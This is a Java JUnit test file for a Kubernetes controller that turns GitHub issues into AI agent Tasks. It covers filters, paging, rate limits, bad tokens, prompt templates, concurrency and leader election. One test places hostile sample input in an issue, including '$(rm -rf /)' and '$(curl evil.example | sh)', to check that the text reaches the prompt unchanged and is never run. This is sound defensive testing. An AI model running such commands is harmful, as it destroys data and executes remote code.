package io.axon.controller.spawner;

import static io.axon.controller.ControllerHarness.await;
import static io.axon.controller.spawner.SpawnerChecks.assertSpawnedFromTemplate;
import static io.axon.controller.spawner.SpawnerChecks.condition;
import static io.axon.controller.spawner.SpawnerChecks.isFalse;
import static io.axon.controller.spawner.SpawnerChecks.isTrue;
import static io.axon.controller.spawner.SpawnerFixtures.NS;
import static io.axon.controller.spawner.SpawnerFixtures.TOKEN;
import static org.assertj.core.api.Assertions.assertThat;

import io.axon.api.v1alpha1.Task;
import io.axon.api.v1alpha1.TaskPhase;
import io.axon.api.v1alpha1.TaskSpawner;
import io.axon.api.v1alpha1.TaskStatus;
import io.axon.controller.ControllerHarness;
import io.axon.controller.Fixtures;
import io.axon.controller.status.Conditions;
import io.axon.source.github.ScriptedGitHub;
import io.axon.spi.agent.AgentRegistry;
import io.axon.spi.source.WorkSourceRegistry;
import io.fabric8.kubernetes.api.model.Condition;
import io.fabric8.kubernetes.api.model.HasMetadata;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.dsl.base.PatchContext;
import io.fabric8.kubernetes.client.dsl.base.PatchType;
import io.fabric8.kubernetes.client.server.mock.EnableKubernetesMockClient;
import io.fabric8.kubernetes.client.server.mock.KubernetesMockServer;
import io.fabric8.mockwebserver.http.RecordedRequest;
import io.vertx.core.Vertx;
import io.vertx.core.json.JsonObject;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.function.Predicate;
import java.util.function.Supplier;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * TaskSpawners against the CRUD mock API server and a scripted GitHub on loopback: issues become
 * Tasks, exactly once each, and the spawner's status says what happened.
 */
@EnableKubernetesMockClient(crud = true)
class SpawnerControllerTest {
  static final Set<String> WRITES = Set.of("POST", "PUT", "PATCH", "DELETE");

  /**
   * Lets the last watch events reach the informers before they close: the mock API server stalls
   * its event loop for seconds when a watch closes while events are queued for it.
   */
  static final long QUIET_MILLIS = 300;

  KubernetesClient client;
  KubernetesMockServer server;

  Vertx githubVertx;
  ScriptedGitHub github;
  RecordingObserver observer = new RecordingObserver();
  List<AutoCloseable> running = new ArrayList<>();

  @BeforeEach
  void startGitHub() throws Exception {
    githubVertx = Vertx.vertx();
    github = ScriptedGitHub.start(githubVertx, "acme", "widgets");
  }

  @AfterEach
  void stop() throws Exception {
    sleep(QUIET_MILLIS);
    for (AutoCloseable closeable : running) {
      closeable.close();
    }
    github.close();
    githubVertx.close().await();
  }

  SpawnerHarness startSpawners() {
    return startSpawners(WorkSourceRegistry.load(), false);
  }

  SpawnerHarness startSpawners(WorkSourceRegistry sources, boolean leaderElection) {
    SpawnerHarness harness =
        new SpawnerHarness(
            client,
            sources,
            Map.of("githubIssues", Map.of("apiBaseURL", github.baseURL())),
            observer,
            leaderElection);
    running.add(harness);
    return harness;
  }

  void createWorkspaceAndSecret(String token) {
    client.resource(SpawnerFixtures.workspace()).create();
    client.resource(SpawnerFixtures.secret(token)).create();
  }

  @Test
  void matchingIssuesBecomeTasksAndFiltersExclusionsAndPullRequestsReachThem() {
    github.addIssue("Crash on start", "It crashes.", "bug");
    github.addIssue("Needs a human", "?", "bug", "axon/needs-input");
    github.addIssue("Add dark mode", "Please", "enhancement");
    github.addPullRequest("Fix crash", "bug");
    github.addIssue("Old bug", "gone", "bug");
    github.edit(5, issue -> issue.put("state", "closed"));
    github.addIssue("Another bug", "Also broken", "bug", "ui");
    createWorkspaceAndSecret(TOKEN);
    TaskSpawner spawner =
        SpawnerFixtures.spawner("fix-bugs", List.of("bug"), List.of("axon/needs-input"));
    spawner.getSpec().getTaskTemplate().setModel("claude-sonnet-4-20250514");
    spawner.getSpec().getTaskTemplate().setActiveDeadlineSeconds(1800L);
    TaskSpawner created = client.resource(spawner).create();
    startSpawners();

    await(this::taskNames, names -> names.size() == 2, "two Tasks");
    assertThat(taskNames()).containsExactly("fix-bugs-1", "fix-bugs-6");

    Task task = task("fix-bugs-1");
    assertSpawnedFromTemplate(task, created, "1");
    assertThat(task.getSpec().getPrompt()).isEqualTo("Fix: Crash on start\nIt crashes.");
    assertThat(task("fix-bugs-6").getSpec().getPrompt()).isEqualTo("Fix: Another bug\nAlso broken");

    TaskSpawner polled =
        awaitSpawner(
            "fix-bugs",
            s -> s.getStatus() != null && Long.valueOf(2).equals(s.getStatus().getTasksCreated()));
    assertThat(polled.getStatus().getItemsFound()).isEqualTo(2);
    assertThat(polled.getStatus().getActiveTasks()).isEqualTo(2);
    assertThat(polled.getStatus().getLastPollTime()).isNotNull();
    assertThat(polled.getStatus().getObservedGeneration())
        .isEqualTo(polled.getMetadata().getGeneration());
    assertThat(condition(polled, SpawnerConditions.READY).getStatus()).isEqualTo(Conditions.TRUE);
    assertThat(condition(polled, SpawnerConditions.READY).getMessage())
        .isEqualTo("Polling githubIssues of Workspace \"widgets\" every 30s");
    assertThat(condition(polled, SpawnerConditions.SOURCE_HEALTHY).getStatus())
        .isEqualTo(Conditions.TRUE);

    ScriptedGitHub.Recorded request = github.requests().get(0);
    assertThat(request.header("Authorization")).isEqualTo("Bearer " + TOKEN);
    assertThat(request.params().get("labels")).isEqualTo("bug");
    assertThat(request.params().get("state")).isEqualTo("open");
    assertThat(observer.created).containsExactlyInAnyOrder("fix-bugs-1", "fix-bugs-6");
    assertThat(observer.polls).isNotEmpty();
  }

  @Test
  void everyPageOfALongListingBecomesTasks() {
    for (int i = 1; i <= 130; i++) {
      github.addIssue("Issue " + i, "Body " + i, "bug");
    }
    createWorkspaceAndSecret(TOKEN);
    client.resource(SpawnerFixtures.spawner("all")).create();
    startSpawners();

    await(this::taskNames, names -> names.size() == 130, "130 Tasks");
    assertThat(taskNames()).contains("all-1", "all-65", "all-130");
    assertThat(github.requests())
        .anyMatch(
            r ->
                r.path().equals("/repositories/%d/issues".formatted(ScriptedGitHub.REPOSITORY_ID))
                    && "2".equals(r.params().get("page")));
    awaitSpawner(
        "all",
        s -> s.getStatus() != null && Long.valueOf(130).equals(s.getStatus().getTasksCreated()));
    assertThat(spawner("all").getStatus().getItemsFound()).isEqualTo(130);
  }

  @Test
  void anUnchangedPollIsOneNotModifiedRequestAndNoApiWrite() throws Exception {
    github.addIssue("One", "1", "bug");
    github.addIssue("Two", "2", "bug");
    createWorkspaceAndSecret(TOKEN);
    client.resource(SpawnerFixtures.spawner("quiet")).create();
    startSpawners();
    awaitSpawner(
        "quiet",
        s -> s.getStatus() != null && Long.valueOf(2).equals(s.getStatus().getTasksCreated()));
    pollNow("quiet", 2);
    await(() -> notModifiedAnswers(), n -> n >= 2, "steady polls");

    drainApiRequests();
    github.clearRequests();
    pollNow("quiet", 5);
    await(github::requestCount, n -> n >= 5, "five more polls");

    assertThat(github.requests())
        .allSatisfy(
            r -> {
              assertThat(r.status()).isEqualTo(304);
              assertThat(r.path()).isEqualTo("/repos/acme/widgets/issues");
              assertThat(r.params().get("page")).isNull();
            });
    assertThat(drainApiRequests())
        .as("writes to the API server while nothing changed, but for the test's poll-now")
        .noneMatch(
            r -> WRITES.contains(r.getMethod()) && !r.getPath().endsWith("/taskspawners/quiet"));
    assertThat(observer.polls.get(observer.polls.size() - 1).requests()).isEqualTo(1);
    assertThat(observer.polls.get(observer.polls.size() - 1).notModified()).isEqualTo(1);
    assertThat(taskNames()).containsExactly("quiet-1", "quiet-2");
  }

  @Test
  void aRateLimitStopsPollingUntilGitHubSaysAndSaysSoInTheStatus() {
    github.addIssue("Crash", "x", "bug");
    Instant reset = Instant.ofEpochSecond(Instant.now().plusSeconds(5).getEpochSecond());
    github.rateLimit(5000, 0, reset);
    createWorkspaceAndSecret(TOKEN);
    client.resource(SpawnerFixtures.spawner("limited")).create();
    startSpawners();

    TaskSpawner limited =
        awaitSpawner("limited", s -> isFalse(s, SpawnerConditions.SOURCE_HEALTHY));
    Condition source = condition(limited, SpawnerConditions.SOURCE_HEALTHY);
    assertThat(source.getReason()).isEqualTo("RateLimited");
    assertThat(source.getMessage())
        .contains("rate limit")
        .contains(
            "until "
                + DateTimeFormatter.ofPattern("HH:mm 'UTC'")
                    .withZone(ZoneOffset.UTC)
                    .format(reset));
    assertThat(condition(limited, SpawnerConditions.READY).getStatus()).isEqualTo(Conditions.TRUE);

    // A changed spawner gets a fresh source, which has not seen the limit: the controller still
    // waits.
    client
        .resources(TaskSpawner.class)
        .inNamespace(NS)
        .withName("limited")
        .edit(
            s -> {
              s.getSpec().getWhen().getGithubIssues().setLabels(List.of("bug"));
              return s;
            });
    while (Instant.now().isBefore(reset.minusMillis(300))) {
      assertThat(github.requestCount()).as("requests before the rate limit resets").isEqualTo(1);
      sleep(50);
    }
    assertThat(observer.errors).hasSize(1);
    github.rateLimit(5000, 5000, Instant.now().plusSeconds(3600));

    await(this::taskNames, names -> names.equals(List.of("limited-1")), "the Task after reset");
    awaitSpawner("limited", s -> isTrue(s, SpawnerConditions.SOURCE_HEALTHY));
  }

  @Test
  void aRefusedTokenIsReportedWithoutTheTokenAndANewOneIsUsed() {
    github.addIssue("Crash", "x", "bug");
    github.requireToken(TOKEN);
    String wrong = "ghp_Wr0ngT0kenValue0123456789abcdefXYZ";
    createWorkspaceAndSecret(wrong);
    client.resource(SpawnerFixtures.spawner("auth")).create();
    startSpawners();

    TaskSpawner refused = awaitSpawner("auth", s -> isFalse(s, SpawnerConditions.SOURCE_HEALTHY));
    Condition source = condition(refused, SpawnerConditions.SOURCE_HEALTHY);
    assertThat(source.getReason()).isEqualTo("Unauthorized");
    assertThat(source.getMessage())
        .isEqualTo(
            "GitHub rejected the token (GITHUB_TOKEN in the Workspace's Secret): check that"
                + " it is valid and not expired")
        .doesNotContain(wrong);
    assertThat(observer.errors).isNotEmpty();
    assertThat(taskNames()).isEmpty();

    SpawnerFixtures.replaceToken(client, NS, TOKEN);
    pollNow("auth"); // A Secret's change sends no event: the fixed token is used at the next poll.

    await(this::taskNames, names -> names.equals(List.of("auth-1")), "a Task with the new token");
    awaitSpawner("auth", s -> isTrue(s, SpawnerConditions.SOURCE_HEALTHY));
  }

  @Test
  void anInvalidTemplateIsAConditionAndCreatesNothingUntilFixed() {
    github.addIssue("Crash", "x", "bug");
    createWorkspaceAndSecret(TOKEN);
    TaskSpawner spawner = SpawnerFixtures.spawner("tpl");
    spawner.getSpec().getTaskTemplate().setPromptTemplate("Fix {{.Title}} {{if .Body}}x{{end}}");
    client.resource(spawner).create();
    startSpawners();

    TaskSpawner invalid = awaitSpawner("tpl", s -> isFalse(s, SpawnerConditions.READY));
    Condition ready = condition(invalid, SpawnerConditions.READY);
    assertThat(ready.getReason()).isEqualTo("InvalidPromptTemplate");
    assertThat(ready.getMessage())
        .startsWith("promptTemplate: unsupported action '{{if .Body}}' at line 1, column 16");
    SpawnerFixtures.pollNow(client, NS, "tpl");
    sleep(600); // the poll asked for meets the same template
    assertThat(taskNames()).isEmpty();
    assertThat(github.requestCount()).isZero();

    client
        .resources(TaskSpawner.class)
        .inNamespace(NS)
        .withName("tpl")
        .edit(
            s -> {
              s.getSpec().getTaskTemplate().setPromptTemplate("Fix {{.Title}}");
              return s;
            });
    await(this::taskNames, names -> names.equals(List.of("tpl-1")), "a Task once fixed");
    assertThat(task("tpl-1").getSpec().getPrompt()).isEqualTo("Fix Crash");
    awaitSpawner("tpl", s -> isTrue(s, SpawnerConditions.READY));
  }

  @Test
  void maxConcurrencyLimitsUnfinishedTasksAndAFinishedOneMakesRoom() {
    github.addIssue("First", "1", "bug");
    github.addIssue("Second", "2", "bug");
    github.addIssue("Third", "3", "bug");
    createWorkspaceAndSecret(TOKEN);
    TaskSpawner spawner = SpawnerFixtures.spawner("one-at-a-time");
    spawner.getSpec().setMaxConcurrency(1);
    client.resource(spawner).create();
    startSpawners();

    // Items come newest first (GitHub sorts by update): #3 is the first Task.
    await(this::taskNames, names -> names.size() == 1, "one Task");
    pollNow("one-at-a-time", 3);
    assertThat(taskNames()).containsExactly("one-at-a-time-3");
    assertThat(spawner("one-at-a-time").getStatus().getActiveTasks()).isEqualTo(1);

    finish("one-at-a-time-3", TaskPhase.Succeeded);
    await(this::taskNames, names -> names.size() == 2, "a second Task");
    assertThat(taskNames()).containsExactly("one-at-a-time-2", "one-at-a-time-3");
    pollNow("one-at-a-time", 3);
    assertThat(taskNames()).hasSize(2);
    TaskSpawner status =
        awaitSpawner(
            "one-at-a-time",
            s -> s.getStatus() != null && Long.valueOf(2).equals(s.getStatus().getTasksCreated()));
    assertThat(status.getStatus().getActiveTasks()).isEqualTo(1);
  }

  @Test
  void removingTheNeedsInputLabelRequeuesTheIssueOnceItsOldTaskIsDeleted() {
    github.addIssue("Flaky test", "It flakes.", "bug");
    createWorkspaceAndSecret(TOKEN);
    client
        .resource(SpawnerFixtures.spawner("workers", List.of(), List.of("axon/needs-input")))
        .create();
    startSpawners();
    String first = awaitTask("workers-1").getMetadata().getUid();

    // The agent gets stuck: it labels the issue and its Task ends; the Task is cleaned up.
    github.edit(1, i -> i.put("labels", ScriptedGitHub.labelObjects("bug", "axon/needs-input")));
    pollUntil(
        "workers",
        () -> spawner("workers"),
        s -> s.getStatus() != null && Integer.valueOf(0).equals(s.getStatus().getItemsFound()),
        "no item found");
    finish("workers-1", TaskPhase.Failed);
    client.resources(Task.class).inNamespace(NS).withName("workers-1").delete();
    pollNow("workers", 3);
    assertThat(taskNames()).isEmpty();

    // A human answers and removes the label: the next poll re-queues the issue.
    github.edit(1, i -> i.put("labels", ScriptedGitHub.labelObjects("bug")));
    String second =
        pollUntil("workers", () -> task("workers-1"), t -> t != null, "Task workers-1")
            .getMetadata()
            .getUid();
    assertThat(second).isNotEqualTo(first);

    // While a finished Task of the item exists, nothing more is created for it.
    finish("workers-1", TaskPhase.Succeeded);
    pollNow("workers", 3);
    assertThat(task("workers-1").getMetadata().getUid()).isEqualTo(second);

    // Deleting it (a TTL, or axon delete) lets the still-matching issue run again.
    client.resources(Task.class).inNamespace(NS).withName("workers-1").delete();
    pollUntil(
        "workers",
        () -> client.resources(Task.class).inNamespace(NS).withName("workers-1").get(),
        t -> t != null && !t.getMetadata().getUid().equals(second),
        "a third Task");
    assertThat(
            awaitSpawner("workers", s -> Long.valueOf(3).equals(s.getStatus().getTasksCreated()))
                .getStatus()
                .getTasksCreated())
        .isEqualTo(3);
  }

  @Test
  void hostileIssueTextLandsByteExactInThePrompt() {
    String title =
        "{{.Body}} $(rm -rf /) `id` \"double\" 'single' ${HOME} \\ back\\slash }} {{ .URL }}";
    String body =
        "line one\nline two\r\n{{ .Title }} {{if .Body}} {{\n$(curl evil.example | sh); exit 1\n"
            + "\tGrüße, 日本語, emoji 🚀, RTL \u202Eabc\u202C, zero-width \u200B.\n--\n";
    github.addIssue(title, body, "bug");
    createWorkspaceAndSecret(TOKEN);
    client.resource(SpawnerFixtures.spawner("hostile")).create();
    startSpawners();

    Task task = awaitTask("hostile-1");

    String expected = "Fix: " + title + "\n" + body;
    assertThat(task.getSpec().getPrompt()).isEqualTo(expected);
    assertThat(task.getSpec().getPrompt().getBytes(StandardCharsets.UTF_8))
        .isEqualTo(expected.getBytes(StandardCharsets.UTF_8));
  }

  @Test
  void aNewPollNowAnnotationPollsAtOnceWhateverTheInterval() {
    github.addIssue("First", "1", "bug");
    createWorkspaceAndSecret(TOKEN);
    TaskSpawner spawner = SpawnerFixtures.spawner("on-demand");
    spawner.getSpec().setPollInterval("1h");
    client.resource(spawner).create();
    startSpawners();
    awaitTask("on-demand-1");
    awaitSpawner(
        "on-demand",
        s -> s.getStatus() != null && Long.valueOf(1).equals(s.getStatus().getTasksCreated()));
    int polled = github.requestCount();

    github.addIssue("Second", "2", "bug");
    SpawnerFixtures.pollNow(client, NS, "on-demand");

    awaitTask("on-demand-2");
    assertThat(github.requestCount()).isGreaterThan(polled);
    // An edit that changes neither the spec nor the annotation polls nothing.
    int after = github.requestCount();
    client
        .resources(TaskSpawner.class)
        .inNamespace(NS)
        .withName("on-demand")
        .patch(
            PatchContext.of(PatchType.JSON_MERGE),
            "{\"metadata\":{\"labels\":{\"touched\":\"yes\"}}}");
    sleep(600);
    assertThat(github.requestCount()).as("requests after an unrelated edit").isEqualTo(after);
  }

  @Test
  void anUninstalledSourceKindIsACondition() {
    createWorkspaceAndSecret(TOKEN);
    client.resource(SpawnerFixtures.spawner("nokind")).create();
    startSpawners(WorkSourceRegistry.of(), false);

    TaskSpawner blocked = awaitSpawner("nokind", s -> isFalse(s, SpawnerConditions.READY));
    assertThat(condition(blocked, SpawnerConditions.READY).getReason())
        .isEqualTo("UnknownSourceKind");
    assertThat(condition(blocked, SpawnerConditions.READY).getMessage())
        .startsWith("no source plugin for spec.when.githubIssues is installed in the controller");
  }

  @Test
  void aMissingWorkspaceIsAConditionAndItsCreationStartsPollingAtOnce() {
    github.addIssue("Crash", "x", "bug");
    client.resource(SpawnerFixtures.secret(TOKEN)).create();
    TaskSpawner spawner = SpawnerFixtures.spawner("early");
    spawner.getSpec().setPollInterval("5m"); // so only the Workspace's event can start a poll
    client.resource(spawner).create();
    startSpawners();

    TaskSpawner noWorkspace = awaitSpawner("early", s -> isFalse(s, SpawnerConditions.READY));
    assertThat(condition(noWorkspace, SpawnerConditions.READY).getReason())
        .isEqualTo("WorkspaceNotFound");
    assertThat(condition(noWorkspace, SpawnerConditions.READY).getMessage())
        .isEqualTo(
            "Workspace \"widgets\" not found in namespace \"team-a\": create it and the spawner"
                + " starts polling");

    client.resource(SpawnerFixtures.workspace()).create();
    await(this::taskNames, names -> names.equals(List.of("early-1")), "a Task");
    awaitSpawner("early", s -> isTrue(s, SpawnerConditions.READY));
  }

  @Test
  void aMissingSecretIsAConditionUntilItExists() {
    github.addIssue("Crash", "x", "bug");
    client.resource(SpawnerFixtures.workspace()).create();
    client.resource(SpawnerFixtures.spawner("nosecret")).create();
    startSpawners();

    TaskSpawner noSecret = awaitSpawner("nosecret", s -> isFalse(s, SpawnerConditions.READY));
    assertThat(condition(noSecret, SpawnerConditions.READY).getReason())
        .isEqualTo("SecretNotFound");
    assertThat(condition(noSecret, SpawnerConditions.READY).getMessage())
        .isEqualTo(
            "Secret \"github-token\" of Workspace \"widgets\" not found in namespace \"team-a\":"
                + " create it, e.g. kubectl create secret generic github-token"
                + " --from-literal=GITHUB_TOKEN=<token>");
    assertThat(github.requestCount()).isZero();

    client.resource(SpawnerFixtures.secret(TOKEN)).create();
    // A Secret's creation sends no event: a blocked spawner looks again every 30s, or when asked.
    SpawnerFixtures.pollNow(client, NS, "nosecret");
    await(this::taskNames, names -> names.equals(List.of("nosecret-1")), "a Task");
    awaitSpawner("nosecret", s -> isTrue(s, SpawnerConditions.READY));
  }

  @Test
  void onlyTheLeaderPollsAndADeletedSpawnerStops() {
    github.addIssue("Crash", "x", "bug");
    createWorkspaceAndSecret(TOKEN);
    client.resource(SpawnerFixtures.spawner("led")).create();
    SpawnerHarness harness = startSpawners(WorkSourceRegistry.load(), true);

    sleep(600);
    assertThat(github.requestCount()).as("requests while not leading").isZero();

    harness.lead(true);
    await(this::taskNames, names -> names.equals(List.of("led-1")), "a Task once leading");

    harness.lead(false);
    assertPollingStops();

    harness.lead(true);
    int before = github.requestCount();
    await(github::requestCount, n -> n > before, "polls once leading again");

    client.resources(TaskSpawner.class).inNamespace(NS).withName("led").delete();
    assertPollingStops();
  }

  @Test
  void aRestartedControllerFindsItsTasksAndCreatesNoSecond() throws Exception {
    github.addIssue("One", "1", "bug");
    github.addIssue("Two", "2", "bug");
    github.addIssue("Three", "3", "bug");
    createWorkspaceAndSecret(TOKEN);
    client.resource(SpawnerFixtures.spawner("restart")).create();
    JsonObject settings =
        new JsonObject()
            .put("leaderElection", new JsonObject().put("enabled", false))
            .put(
                "sources",
                new JsonObject()
                    .put("githubIssues", new JsonObject().put("apiBaseURL", github.baseURL())));
    AgentRegistry agents = AgentRegistry.of(Fixtures.claudeLike());

    List<String> uids;
    try (ControllerHarness first = new ControllerHarness(client, agents, settings)) {
      await(this::taskNames, names -> names.size() == 3, "three Tasks");
      uids = uids();
      awaitSpawner(
          "restart",
          s -> s.getStatus() != null && Long.valueOf(3).equals(s.getStatus().getTasksCreated()));
      for (String name : List.of("restart-1", "restart-2", "restart-3")) {
        await(
            () -> task(name),
            t -> t.getStatus() != null && t.getStatus().getJobName() != null,
            "the Job of " + name);
      }
      sleep(QUIET_MILLIS);
    }
    drainApiRequests();
    int before = github.requestCount();

    try (ControllerHarness second = new ControllerHarness(client, agents, settings)) {
      await(github::requestCount, n -> n > before, "the new controller's first poll");
      pollNow("restart", 3);
      assertThat(taskNames()).containsExactly("restart-1", "restart-2", "restart-3");
      assertThat(uids()).isEqualTo(uids);
      assertThat(spawner("restart").getStatus().getTasksCreated()).isEqualTo(3);
    }
    assertThat(drainApiRequests())
        .as("Task creations by the restarted controller")
        .noneMatch(r -> r.getMethod().equals("POST") && r.getPath().contains("/tasks"));
  }

  // ---- helpers

  /** Asks the spawner for a poll (its poll-now annotation) and waits until GitHub saw it. */
  private void pollNow(String name) {
    int before = github.requestCount();
    SpawnerFixtures.pollNow(client, NS, name);
    await(github::requestCount, n -> n > before, "a poll of " + name);
  }

  private void pollNow(String name, int times) {
    for (int i = 0; i < times; i++) {
      pollNow(name);
    }
  }

  /** Asks for one poll after another until the condition holds. */
  private <T> T pollUntil(String name, Supplier<T> supplier, Predicate<T> condition, String what) {
    long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(20);
    T value = supplier.get();
    while (!condition.test(value)) {
      assertThat(System.nanoTime()).as("timed out polling for " + what).isLessThan(deadline);
      pollNow(name);
      value = supplier.get();
    }
    return value;
  }

  private void assertPollingStops() {
    sleep(1000); // a round in flight ends
    int stopped = github.requestCount();
    sleep(800);
    assertThat(github.requestCount()).as("requests after stopping").isEqualTo(stopped);
  }

  private int notModifiedAnswers() {
    return (int) github.requests().stream().filter(r -> r.status() == 304).count();
  }

  private List<RecordedRequest> drainApiRequests() throws InterruptedException {
    List<RecordedRequest> requests = new ArrayList<>();
    RecordedRequest request;
    while ((request = server.takeRequest(50, TimeUnit.MILLISECONDS)) != null) {
      requests.add(request);
    }
    return requests;
  }

  private List<String> taskNames() {
    return client.resources(Task.class).inNamespace(NS).list().getItems().stream()
        .map(t -> t.getMetadata().getName())
        .sorted(Comparator.naturalOrder())
        .toList();
  }

  private List<String> uids() {
    return client.resources(Task.class).inNamespace(NS).list().getItems().stream()
        .sorted(Comparator.comparing(t -> t.getMetadata().getName()))
        .map(HasMetadata::getMetadata)
        .map(m -> m.getUid())
        .toList();
  }

  private Task task(String name) {
    return client.resources(Task.class).inNamespace(NS).withName(name).get();
  }

  private Task awaitTask(String name) {
    return await(() -> task(name), t -> t != null, "Task " + name);
  }

  private TaskSpawner spawner(String name) {
    return client.resources(TaskSpawner.class).inNamespace(NS).withName(name).get();
  }

  private TaskSpawner awaitSpawner(String name, Predicate<TaskSpawner> condition) {
    return await(
        () -> spawner(name),
        s -> s != null && s.getStatus() != null && condition.test(s),
        "TaskSpawner " + name + " status");
  }

  private void finish(String name, TaskPhase phase) {
    Task task = task(name);
    TaskStatus status = task.getStatus() == null ? new TaskStatus() : task.getStatus();
    status.setPhase(phase);
    task.setStatus(status);
    client.resources(Task.class).resource(task).updateStatus();
  }

  private static void sleep(long millis) {
    try {
      Thread.sleep(millis);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new AssertionError(e);
    }
  }
}
